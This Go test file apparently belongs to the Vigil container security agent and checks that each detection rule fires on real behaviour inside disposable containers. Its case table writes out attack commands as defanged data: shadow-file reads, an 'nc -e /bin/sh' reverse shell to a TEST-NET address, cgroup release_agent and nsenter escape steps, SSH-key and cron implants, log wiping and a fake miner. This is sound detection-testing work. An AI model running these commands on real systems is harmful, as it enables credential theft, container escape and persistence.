package agent

import (
	"bytes"
	"context"
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/vigil-cwpp/vigil/internal/alert"
	"github.com/vigil-cwpp/vigil/internal/event"
	"github.com/vigil-cwpp/vigil/internal/rules"
	"github.com/vigil-cwpp/vigil/internal/sensor"
	"github.com/vigil-cwpp/vigil/internal/vigiltest"
)

// Issue 5's main test: every rule of the default ruleset fires on the real
// behaviour it describes, performed in a container of the bookworm image
// (or on the host for host rules) while the agent runs in process, and no
// other rule fires on that container or process tree.

// rtCase is one rule and the behaviour that must fire it.
type rtCase struct {
	rule string
	// tactics and techniques are what the rule's tags must give.
	tactics, techniques []string
	// host runs cmd on the host (a host rule); else cmd runs as the
	// command of a container of the bookworm image, created with docker.
	host   bool
	docker []string
	cmd    []string
	// also are rules that fire on the same behaviour in Falco too; they
	// must fire as well, and are not counted as extra.
	also []string
	// names says which real binary runs under which name, for rules that
	// look at the process name.
	names string
}

// Where the actor program (testdata/actor) is bind-mounted in containers.
const rtActor = "/vigil/actor"

// Fake DNS answers for the names rules compare connections with: the
// addresses are in TEST-NET-2, so connects to them go nowhere.
var rtDNS = map[string]netip.Addr{
	"kubernetes.default.svc.cluster.local": netip.MustParseAddr("198.51.100.10"),
	"pool.minexmr.com":                     netip.MustParseAddr("198.51.100.11"),
}

// rtPrivileged is "privileged" on these VMs (--privileged fails here);
// Vigil counts CapAdd ALL as privileged.
var rtPrivileged = []string{"--cap-add", "ALL", "--cap-drop", "SYS_RESOURCE", "--security-opt", "seccomp=unconfined"}

// rtTmp is an exec-able tmpfs where real binaries are copied under the
// names rules look for: not the image's overlay upper layer, so copying
// and running them is not container drift.
var rtTmp = []string{"--tmpfs", "/opt/t:rw,exec,mode=755"}

func bash(script string) []string { return []string{"bash", "-c", script} }

func rtCases() []rtCase {
	ta := func(s ...string) []string { return s }
	return []rtCase{
		// Falco's 25 stable rules, in file order.
		{rule: "Directory traversal monitored file read", tactics: ta("TA0006 Credential Access"), techniques: ta("T1555"),
			// exec: the reader's parent must not be a shell.
			cmd: bash("mkdir -p /etc/ssh && exec " + rtActor + " read /etc/ssh/../../etc/../etc/passwd")},
		{rule: "Read sensitive file trusted after startup", tactics: ta("TA0006 Credential Access"), techniques: ta("T1555"),
			docker: rtTmp, names: "nginx is /bin/bash copied under that name",
			// Six seconds pass: the rule is about reads after startup.
			cmd:  bash(`cp /bin/bash /opt/t/nginx && /opt/t/nginx -c 'sleep 6; read -r x < /etc/shadow; true'`),
			also: []string{"Read sensitive file untrusted"}},
		{rule: "Read sensitive file untrusted", tactics: ta("TA0006 Credential Access"), techniques: ta("T1555"),
			cmd: []string{"cat", "/etc/shadow"}},
		{rule: "Run shell untrusted", tactics: ta("TA0002 Execution"), techniques: ta("T1059.004"),
			docker: rtTmp, names: "nginx is /bin/bash copied under that name",
			cmd: bash(`cp /bin/bash /opt/t/nginx && /opt/t/nginx -c 'sh -c "echo spawned"; true'`)},
		{rule: "System user interactive", tactics: ta("TA0002 Execution"), techniques: ta("T1059"),
			docker: rtTmp, names: "sshd is /bin/bash copied under that name",
			cmd: bash(`cp /bin/bash /opt/t/sshd && /opt/t/sshd -c 'setpriv --reuid=www-data --regid=www-data --clear-groups id; true'`)},
		{rule: "Terminal shell in container", tactics: ta("TA0002 Execution"), techniques: ta("T1059"),
			docker: []string{"-t"}, cmd: bash("exit 0")},
		{rule: "Contact K8S API Server From Container", tactics: ta("TA0007 Discovery"), techniques: ta("T1565"),
			names: "kubernetes.default.svc.cluster.local resolves (test resolver) to 198.51.100.10",
			cmd:   []string{rtActor, "connect-nb", "198.51.100.10:443"}},
		{rule: "Netcat Remote Code Execution in Container", tactics: ta("TA0002 Execution"), techniques: ta("T1059"),
			docker: rtTmp, names: "nc is /bin/true copied under that name",
			cmd: bash(`cp /bin/true /opt/t/nc && /opt/t/nc -e /bin/sh 198.51.100.1 4444`)},
		{rule: "Search Private Keys or Passwords", tactics: ta("TA0006 Credential Access"), techniques: ta("T1552.001"),
			cmd: []string{"find", "/root", "/home", "-name", "id_rsa"}},
		{rule: "Clear Log Activities", tactics: ta("TA0005 Defense Evasion"), techniques: ta("T1070"),
			cmd: bash(": > /var/log/dpkg.log")},
		{rule: "Remove Bulk Data from Disk", tactics: ta("TA0040 Impact"), techniques: ta("T1485"),
			cmd: bash("head -c 65536 /dev/zero > /tmp/data && shred -u /tmp/data")},
		{rule: "Create Symlink Over Sensitive Files", tactics: ta("TA0006 Credential Access"), techniques: ta("T1555"),
			cmd: []string{"ln", "-s", "/etc/shadow", "/tmp/shadow-link"}},
		{rule: "Create Hardlink Over Sensitive Files", tactics: ta("TA0006 Credential Access"), techniques: ta("T1555"),
			cmd: []string{"ln", "/etc/shadow", "/tmp/shadow-hardlink"}},
		{rule: "Packet socket created in container", tactics: ta("TA0006 Credential Access"), techniques: ta("T1557.002"),
			cmd: []string{rtActor, "packet"}},
		{rule: "Redirect STDOUT/STDIN to Network Connection in Container", tactics: ta("TA0002 Execution"), techniques: ta("T1059"),
			cmd: []string{rtActor, "revshell"}},
		{rule: "Linux Kernel Module Injection Detected", tactics: ta("TA0003 Persistence"),
			docker: []string{"--cap-add", "SYS_MODULE", "--security-opt", "seccomp=unconfined"},
			cmd:    bash("echo 'not a module' > /tmp/evil.ko && " + rtActor + " finit /tmp/evil.ko")},
		{rule: "Debugfs Launched in Privileged Container", tactics: ta("TA0004 Privilege Escalation"), techniques: ta("T1611"),
			docker: rtPrivileged, cmd: []string{"debugfs", "-V"}},
		{rule: "Detect release_agent File Container Escapes", tactics: ta("TA0004 Privilege Escalation"), techniques: ta("T1611"),
			// CVE-2022-0492's first steps, on a private named cgroup v1
			// hierarchy that goes away with the container.
			docker: rtPrivileged,
			cmd:    bash("mkdir /tmp/cg && mount -t cgroup -o none,name=vigilrt cgroup /tmp/cg && echo /bin/true > /tmp/cg/release_agent")},
		{rule: "PTRACE attached to process", tactics: ta("TA0004 Privilege Escalation"), techniques: ta("T1055.008"),
			cmd: []string{rtActor, "ptrace"}},
		{rule: "PTRACE anti-debug attempt", tactics: ta("TA0005 Defense Evasion"), techniques: ta("T1622"),
			cmd: []string{rtActor, "traceme"}},
		{rule: "Find AWS Credentials", tactics: ta("TA0006 Credential Access"), techniques: ta("T1552"),
			cmd: bash("grep -rs aws_secret_access_key /etc /root; true")},
		{rule: "Execution from /dev/shm", tactics: ta("TA0002 Execution"), techniques: ta("T1059.004"),
			// Docker mounts /dev/shm noexec; hosts often do not.
			docker: []string{"--tmpfs", "/dev/shm:rw,exec"},
			cmd:    bash("cp /bin/true /dev/shm/payload && /dev/shm/payload")},
		{rule: "Drop and execute new binary in container", tactics: ta("TA0003 Persistence"),
			cmd: bash("cp /bin/true /tmp/dropped && /tmp/dropped")},
		{rule: "Disallowed SSH Connection Non Standard Port", tactics: ta("TA0002 Execution"), techniques: ta("T1059"),
			names: "ssh is the actor bind-mounted as /usr/local/bin/ssh",
			// 198.51.100.1 is routable and not RFC 1918; the SYN goes nowhere.
			docker: []string{"-v", "{actor}:/usr/local/bin/ssh:ro"},
			cmd:    []string{"/usr/local/bin/ssh", "connect-nb", "198.51.100.1:443"}},
		{rule: "Fileless execution via memfd_create", tactics: ta("TA0005 Defense Evasion"), techniques: ta("T1620"),
			cmd: []string{rtActor, "memfd"}},

		// Vigil's own rules.
		{rule: "Connection to a crypto-mining pool port", tactics: ta("TA0040 Impact"), techniques: ta("T1496"),
			cmd: []string{rtActor, "listen-connect", "3333"}},
		{rule: "Connection to a crypto-mining pool domain", tactics: ta("TA0040 Impact"), techniques: ta("T1496"),
			names: "pool.minexmr.com resolves (test resolver) to 198.51.100.11",
			cmd:   []string{rtActor, "connect-nb", "198.51.100.11:443"}},
		{rule: "Crypto-miner started", tactics: ta("TA0040 Impact"), techniques: ta("T1496"),
			docker: rtTmp, names: "xmrig is /bin/true copied under that name",
			cmd: bash("cp /bin/true /opt/t/xmrig && /opt/t/xmrig -o stratum+tcp://pool.minexmr.com:4444 --donate-level 1")},
		{rule: "Reverse shell on the host", tactics: ta("TA0002 Execution"), techniques: ta("T1059.004"),
			host: true, cmd: []string{"{actor}", "revshell"}},
		{rule: "Binary directory written in container", tactics: ta("TA0003 Persistence"), techniques: ta("T1525"),
			cmd: []string{"touch", "/usr/local/bin/implant"}},
		{rule: "Package manager run in container", tactics: ta("TA0003 Persistence"), techniques: ta("T1525"),
			cmd: []string{"dpkg", "--print-architecture"}},
		{rule: "Host device mounted in container", tactics: ta("TA0004 Privilege Escalation"), techniques: ta("T1611"),
			// The host's root disk, given to a privileged container, mounted
			// read-only. This VM refuses the mount (the disk is in use); the
			// rule, like Falco's, fires on the attempt.
			docker: append([]string{"--device", "{rootdev}"}, rtPrivileged...),
			cmd:    bash("mkdir -p /mnt/host && mount -o ro {rootdev} /mnt/host; true")},
		{rule: "Namespace entered from container", tactics: ta("TA0004 Privilege Escalation"), techniques: ta("T1611"),
			// The escape: with the host's pids visible, nsenter joins a host
			// process's namespaces (this test's: pid 1 of these VMs refuses
			// even root).
			docker: append([]string{"--pid", "host"}, rtPrivileged...),
			cmd:    []string{"nsenter", "-t", "{hostpid}", "-m", "-u", "-i", "-n", "true"}},
		{rule: "Container runtime socket accessed from container", tactics: ta("TA0004 Privilege Escalation"), techniques: ta("T1611"),
			docker: []string{"-v", "/var/run/docker.sock:/var/run/docker.sock"},
			cmd:    []string{rtActor, "connect-unix", "/var/run/docker.sock"}},
		{rule: "Kernel module loaded on the host", tactics: ta("TA0003 Persistence"), techniques: ta("T1547.006"),
			host: true, cmd: []string{"{actor}", "finit", "{notmodule}"}},
		{rule: "SSH authorized keys modified", tactics: ta("TA0003 Persistence"), techniques: ta("T1098.004"),
			cmd: bash("mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIRulesTest attacker' >> /root/.ssh/authorized_keys")},
		{rule: "Cron job created or modified", tactics: ta("TA0003 Persistence"), techniques: ta("T1053.003"),
			cmd: bash("echo '* * * * * root /tmp/x' > /etc/cron.d/implant")},
		{rule: "Log file deleted", tactics: ta("TA0005 Defense Evasion"), techniques: ta("T1070.002"),
			cmd: []string{"rm", "/var/log/dpkg.log"}},
		{rule: "Shell history cleared", tactics: ta("TA0005 Defense Evasion"), techniques: ta("T1070.003"),
			cmd: bash("echo 'ls' > /root/.bash_history && rm /root/.bash_history")},
		{rule: "Unexpected outbound port from container", tactics: ta("TA0011 Command and Control"), techniques: ta("T1571"),
			cmd: []string{rtActor, "connect-nb", "198.51.100.1:2323"}},
	}
}

// TestRulesFireOnRealBehaviour runs the agent with rules.Default() and,
// for each loaded rule, performs the behaviour the rule describes and
// checks that exactly that rule fired on the behaviour's container (or
// host process tree), with the MITRE tactics and techniques of its tags
// and the container's ID and image.
func TestRulesFireOnRealBehaviour(t *testing.T) {
	vigiltest.RequireRoot(t)
	img := vigiltest.RequireBookwormImage(t)
	rs, err := rules.Default()
	if err != nil {
		t.Fatal(err)
	}
	cases := rtCases()

	// The table covers every loaded rule, and only loaded rules.
	var loaded, inTable []string
	for _, s := range rs.Statuses() {
		if s.Loaded && s.Enabled {
			loaded = append(loaded, s.Name)
		}
	}
	for _, c := range cases {
		inTable = append(inTable, c.rule)
	}
	if d := cmp.Diff(sorted(loaded), sorted(inTable)); d != "" {
		t.Fatalf("the table must have one case per loaded rule (-loaded +table):\n%s", d)
	}

	actor := buildActor(t)
	notModule := filepath.Join(t.TempDir(), "not-a-module.ko")
	if err := os.WriteFile(notModule, []byte("not a kernel module\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	rootDev := rtRootDevice(t)
	a := rtStart(t, rs)
	var cids []string
	for _, c := range cases {
		t.Run(rtName(c.rule), func(t *testing.T) {
			subst := strings.NewReplacer("{actor}", actor, "{notmodule}", notModule, "{hostpid}", fmt.Sprint(os.Getpid()), "{rootdev}", rootDev)
			args := make([]string, len(c.cmd))
			for i, s := range c.cmd {
				args[i] = subst.Replace(s)
			}
			flags := []string{"-v", actor + ":" + rtActor + ":ro"}
			for _, f := range c.docker {
				flags = append(flags, subst.Replace(f))
			}
			want := append([]string{c.rule}, c.also...)
			var (
				scope   func(*alert.Alert) bool
				cid     string
				got     map[string]*alert.Alert
				dropped uint64
			)
			// Under load the ring buffer may drop events (counted, never
			// silent); a miss with drops is performed again, up to three
			// times. A miss without drops fails at once.
			for attempt := 1; ; attempt++ {
				d0 := a.drops(t)
				if c.host {
					pid := rtRunHost(t, args)
					scope = func(al *alert.Alert) bool { return rtInTree(al.Event, int32(pid)) }
				} else {
					id := rtRunContainer(t, img, flags, args)
					cid = id
					cids = append(cids, id)
					scope = func(al *alert.Alert) bool {
						return rtInContainer(al, id) && !rtRuntime(al.Event.Process.Name)
					}
				}
				// Everything the behaviour did reached the agent before
				// the marker did; wait for the expected rules on top.
				a.mark(t)
				got = a.waitAlerts(t, 5*time.Second, scope, want)
				dropped = a.drops(t) - d0
				if got[c.rule] != nil || dropped == 0 || attempt == 3 {
					break
				}
				t.Logf("attempt %d: %q did not fire and the ring buffer dropped %d events meanwhile: again", attempt, c.rule, dropped)
			}
			al := got[c.rule]
			if al == nil && dropped > 0 {
				t.Fatalf("%q did not fire on %s in 3 attempts, the last with %d ring-buffer drops; %s", c.rule, rtWhat(c, cid), dropped, a.describe(scope, cid))
			}
			if al == nil {
				t.Fatalf("%q did not fire on %s; %s", c.rule, rtWhat(c, cid), a.describe(scope, cid))
			}
			for _, o := range c.also {
				if got[o] == nil {
					t.Errorf("%q, which fires with %q in Falco too, did not fire", o, c.rule)
				}
			}
			if d := cmp.Diff(c.tactics, al.Tactics); d != "" {
				t.Errorf("mitre_tactics (-want +got):\n%s", d)
			}
			if d := cmp.Diff(c.techniques, al.Techniques); d != "" {
				t.Errorf("mitre_techniques (-want +got):\n%s", d)
			}
			if al.Output == "" || al.Priority == "" || al.Source != alert.SourceRules {
				t.Errorf("alert: output %q, priority %q, source %q", al.Output, al.Priority, al.Source)
			}
			if c.host {
				if w := al.Event.Workload; w != nil && w.ContainerID != "" {
					t.Errorf("host behaviour attributed to container %s", w.ContainerID)
				}
			} else if w := al.Event.Workload; w.Image != img || len(w.ContainerID) != 64 {
				t.Errorf("workload: image %q, container %q; want %q, %s", w.Image, w.ContainerID, img, cid)
			}
			if extra := a.extra(scope, want); len(extra) > 0 {
				t.Errorf("other rules fired on %s: %s", rtWhat(c, cid), strings.Join(extra, "; "))
			}
			t.Logf("%s: %s", al.Priority, al.Output)
		})
	}
	// The container runtime setting up the test's containers is not a
	// behaviour: no rule may fire on it.
	t.Run("no alerts on the container runtime", func(t *testing.T) {
		for _, x := range a.runtimeAlerts(cids) {
			t.Errorf("fired on the runtime's own process in the container: %s", x)
		}
	})
}

// TestRulesNoFalsePositivesBaseline: with the agent running the default
// rules, an ordinary container workload and a host-side `go version`
// raise no alert scoped to them.
func TestRulesNoFalsePositivesBaseline(t *testing.T) {
	vigiltest.RequireRoot(t)
	img := vigiltest.RequireBookwormImage(t)
	rs, err := rules.Default()
	if err != nil {
		t.Fatal(err)
	}
	a := rtStart(t, rs)
	cid := rtRunContainer(t, img, nil, []string{"sh", "-c", "ls /; cat /etc/os-release; echo hi > /tmp/x; rm /tmp/x"})
	goBin, err := exec.LookPath("go")
	if err != nil {
		vigiltest.Unavailable(t, "needs go on PATH")
	}
	pid := rtRunHost(t, []string{goBin, "version"})
	a.mark(t)
	// The container's and the go command's own events arrived: otherwise
	// "no alert" would prove nothing.
	if n := a.eventsOf(func(e *event.Event) bool { return e.Workload != nil && e.Workload.ContainerID == cid }); n == 0 {
		t.Fatalf("no events from the baseline container %s reached the agent", cid)
	}
	if n := a.eventsOf(func(e *event.Event) bool { return rtInTree(e, int32(pid)) }); n == 0 {
		t.Fatalf("no events from `go version` (pid %d) reached the agent", pid)
	}
	for what, scope := range map[string]func(*alert.Alert) bool{
		"the baseline container": func(al *alert.Alert) bool {
			return al.Event != nil && al.Event.Workload != nil && al.Event.Workload.ContainerID == cid
		},
		"go version": func(al *alert.Alert) bool { return rtInTree(al.Event, int32(pid)) },
	} {
		if extra := a.extra(scope, nil); len(extra) > 0 {
			t.Errorf("alerts on %s: %s", what, strings.Join(extra, "; "))
		}
	}
}

func sorted(s []string) []string {
	s = slices.Clone(s)
	sort.Strings(s)
	return s
}

// rtName is a subtest name: the rule's name with its spaces kept readable.
func rtName(rule string) string { return strings.ReplaceAll(rule, "/", "-") }

func rtWhat(c rtCase, cid string) string {
	if c.host {
		return fmt.Sprintf("the host process tree of %q", strings.Join(c.cmd, " "))
	}
	return fmt.Sprintf("container %.12s (%s)", cid, strings.Join(c.cmd, " "))
}

// rtRunContainer creates a container of img with flags running cmd,
// runs it to its end and returns its full ID; the command must succeed.
// The container is removed when the test ends.
func rtRunContainer(t *testing.T, img string, flags, cmd []string) string {
	t.Helper()
	args := append([]string{"create", "--network", "bridge"}, flags...)
	args = append(append(args, img), cmd...)
	out, err := exec.Command("docker", args...).CombinedOutput()
	if err != nil {
		t.Fatalf("docker %s: %v\n%s", strings.Join(args, " "), err, out)
	}
	id := strings.TrimSpace(string(out))
	if i := strings.LastIndexByte(id, '\n'); i >= 0 { // warnings come first
		id = id[i+1:]
	}
	t.Cleanup(func() { exec.Command("docker", "rm", "-f", id).Run() })
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	out, err = exec.CommandContext(ctx, "docker", "start", "-a", id).CombinedOutput()
	if err != nil {
		t.Fatalf("docker start -a (%s): %v\n%s", strings.Join(cmd, " "), err, out)
	}
	return id
}

// rtRootDevice is the block device the host's root filesystem is on.
func rtRootDevice(t *testing.T) string {
	t.Helper()
	out, err := exec.Command("findmnt", "-n", "-o", "SOURCE", "/").Output()
	dev := strings.TrimSpace(string(out))
	if err != nil || !strings.HasPrefix(dev, "/dev/") {
		vigiltest.Unavailable(t, "needs the host's root filesystem on a block device (findmnt says %q: %v)", dev, err)
	}
	return dev
}

// rtRunHost runs args on the host, which must succeed, and returns the
// process ID it had.
func rtRunHost(t *testing.T, args []string) int {
	t.Helper()
	cmd := exec.Command(args[0], args[1:]...)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Run(); err != nil {
		t.Fatalf("%s: %v\n%s", strings.Join(args, " "), err, out.Bytes())
	}
	return cmd.Process.Pid
}

// rtInTree reports whether e's process is pid or a descendant of it.
func rtInTree(e *event.Event, pid int32) bool {
	if e == nil {
		return false
	}
	if e.Process.PID == pid || e.Process.PPID == pid || (e.Parent != nil && e.Parent.PID == pid) {
		return true
	}
	for _, an := range e.Ancestors {
		if an.PID == pid {
			return true
		}
	}
	return false
}

// rtAgent is the agent running in process with a ruleset, its alerts kept
// and its events kept when they are of a container or of this test's own
// process trees.
type rtAgent struct {
	*agentRun
	marks map[string]bool // marker commands seen (guarded by mu)
	seq   atomic.Int64
}

// rtMarkPrefix starts the argument of the host marker command.
const rtMarkPrefix = "vigil-rules-e2e-mark-"

// rtStart runs the agent with rs (and a resolver answering rtDNS) until the
// test ends, and returns once its sensor is attached.
func rtStart(t *testing.T, rs *rules.Ruleset) *rtAgent {
	t.Helper()
	ra := &rtAgent{marks: map[string]bool{}}
	ra.agentRun = startAgentWith(t, func(a *agentRun, o *Options) {
		// This kernel has no module support and hence no init_module
		// tracepoints; the module rules need the raw-syscall fallback,
		// which the default (auto) leaves off on such kernels.
		o.Sensor.Fallbacks = sensor.FallbackAlways
		o.Detector = NewDetector(Detection{Rules: rs, Resolve: func(_ context.Context, name string) ([]netip.Addr, error) {
			if a, ok := rtDNS[name]; ok {
				return []netip.Addr{a}, nil
			}
			return nil, fmt.Errorf("%s: not a name of this test", name)
		}})
		a.onEvent = ra.keep
	})
	return ra
}

// keep notes marker execs and keeps (returns true for) events of
// containers and of the test's own process trees (host processes below
// this test) only: the rest of the host is noise. Called with mu held.
func (a *rtAgent) keep(e *event.Event) bool {
	if e.Type == event.ProcessExec && len(e.Process.Args) == 2 && strings.HasPrefix(e.Process.Args[1], rtMarkPrefix) {
		a.marks[e.Process.Args[1]] = true
	}
	if (e.Workload != nil && e.Workload.ContainerID != "") || rtInTree(e, int32(os.Getpid())) {
		e.Ancestors = nil // not needed once scoped
		return true
	}
	return false
}

// mark runs a uniquely named command on the host and waits for its exec
// event: the ring buffer and the agent's pipeline keep order, so every
// event of what ran before it has been evaluated by then.
func (a *rtAgent) mark(t *testing.T) {
	t.Helper()
	// A marker whose event the ring buffer dropped under load is replaced
	// by another one after a while: any of them orders the events.
	var sent []string
	for range 10 {
		m := fmt.Sprintf("%s%d-%d", rtMarkPrefix, os.Getpid(), a.seq.Add(1))
		if out, err := exec.Command("/bin/true", m).CombinedOutput(); err != nil {
			t.Fatalf("marker: %v %s", err, out)
		}
		sent = append(sent, m)
		if ok, _ := a.wait(3*time.Second, func() bool { return slices.ContainsFunc(sent, func(s string) bool { return a.marks[s] }) }); ok {
			return
		}
	}
	t.Fatalf("none of %d marker commands' exec events arrived within 30 s", len(sent))
}

// waitAlerts waits until each of rules has an alert in scope, or the
// timeout passes, and returns the first alert of each that did.
func (a *rtAgent) waitAlerts(t *testing.T, timeout time.Duration, scope func(*alert.Alert) bool, want []string) map[string]*alert.Alert {
	t.Helper()
	got := map[string]*alert.Alert{}
	a.wait(timeout, func() bool {
		for i := range a.alerts {
			al := &a.alerts[i]
			if slices.Contains(want, al.Rule) && got[al.Rule] == nil && scope(al) {
				c := *al
				got[al.Rule] = &c
			}
		}
		return len(got) == len(want)
	})
	return got
}

// extra lists the alerts in scope of rules other than want, each once
// with the process that raised it.
func (a *rtAgent) extra(scope func(*alert.Alert) bool, want []string) []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	seen := map[string]bool{}
	var out []string
	for i := range a.alerts {
		al := &a.alerts[i]
		if slices.Contains(want, al.Rule) || !scope(al) {
			continue
		}
		s := fmt.Sprintf("%q (%s by %s: %s)", al.Rule, al.Event.Type, al.Event.Process.Name, al.Output)
		if !seen[al.Rule] {
			seen[al.Rule] = true
			out = append(out, s)
		}
	}
	return out
}

// describe says what the agent saw of a container (or, for host cases,
// which alerts it raised) for a failure message.
func (a *rtAgent) describe(scope func(*alert.Alert) bool, cid string) string {
	a.mu.Lock()
	defer a.mu.Unlock()
	var b strings.Builder
	var rulesSeen []string
	for i := range a.alerts {
		if al := &a.alerts[i]; scope(al) {
			s := al.Rule
			if w := al.Event.Workload; w != nil && w.ContainerID != "" {
				s += fmt.Sprintf(" (in container %.12s %s, cgroup %q)", w.ContainerID, w.ContainerName, al.Event.Process.CgroupName)
			}
			rulesSeen = append(rulesSeen, s)
		}
	}
	fmt.Fprintf(&b, "rules fired in scope: %q", rulesSeen)
	if cid == "" {
		return b.String()
	}
	b.WriteString("; the container's events (runtime processes left out):")
	n := 0
	for i := range a.events {
		e := &a.events[i]
		if e.Workload == nil || e.Workload.ContainerID != cid || rtRuntime(e.Process.Name) {
			continue
		}
		if n++; n > 60 {
			b.WriteString("\n  ...")
			break
		}
		fmt.Fprintf(&b, "\n  %s", rtBrief(e))
	}
	if n == 0 {
		b.WriteString(" none")
	}
	return b.String()
}

// rtRuntime tells the container runtime's own processes (runc and its
// init stages, the shim), which the agent attributes to the container they
// start, by name.
func rtRuntime(name string) bool {
	return strings.HasPrefix(name, "runc") || name == "exe" || strings.HasPrefix(name, "containerd-shim")
}

func rtInContainer(al *alert.Alert, id string) bool {
	return al.Event != nil && al.Event.Workload != nil && al.Event.Workload.ContainerID == id
}

// rtBrief is one line about an event for a failure message.
func rtBrief(e *event.Event) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s pid=%d %s %q uid=%d user=%q ret=%d", e.Type, e.Syscall, e.Process.PID, e.Process.Name, e.Process.Args, e.Process.EUID, e.Process.User, e.Ret)
	if e.Parent != nil {
		fmt.Fprintf(&b, " parent=%s", e.Parent.Name)
	}
	if e.File != nil {
		fmt.Fprintf(&b, " file=%+v", *e.File)
	}
	if e.Net != nil {
		fmt.Fprintf(&b, " net=%+v", *e.Net)
	}
	if e.Detail != nil {
		fmt.Fprintf(&b, " detail=%+v", *e.Detail)
	}
	return b.String()
}

// scoped returns the kept events of container cid, or for a host case
// (cid "") those whose alert-shaped scope holds.
func (a *rtAgent) scoped(cid string, scope func(*alert.Alert) bool) []event.Event {
	a.mu.Lock()
	defer a.mu.Unlock()
	var out []event.Event
	for i := range a.events {
		e := a.events[i]
		if cid != "" && (e.Workload == nil || e.Workload.ContainerID != cid) {
			continue
		}
		if cid == "" && !scope(&alert.Alert{Event: &e}) {
			continue
		}
		out = append(out, e)
	}
	return out
}

// runtimeAlerts lists, once per rule and process name, the alerts raised
// on the container runtime's own processes in the containers cids, with
// how many of them had one.
func (a *rtAgent) runtimeAlerts(cids []string) []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	type key struct{ rule, proc string }
	n := map[key]map[string]bool{}
	example := map[key]string{}
	var order []key
	for i := range a.alerts {
		al := &a.alerts[i]
		if al.Event == nil || al.Event.Workload == nil || !slices.Contains(cids, al.Event.Workload.ContainerID) || !rtRuntime(al.Event.Process.Name) {
			continue
		}
		k := key{al.Rule, al.Event.Process.Name}
		if n[k] == nil {
			n[k] = map[string]bool{}
			example[k] = al.Output
			order = append(order, k)
		}
		n[k][al.Event.Workload.ContainerID] = true
	}
	var out []string
	for _, k := range order {
		out = append(out, fmt.Sprintf("%q by %s in %d of %d containers, e.g. %s", k.rule, k.proc, len(n[k]), len(cids), example[k]))
	}
	return out
}
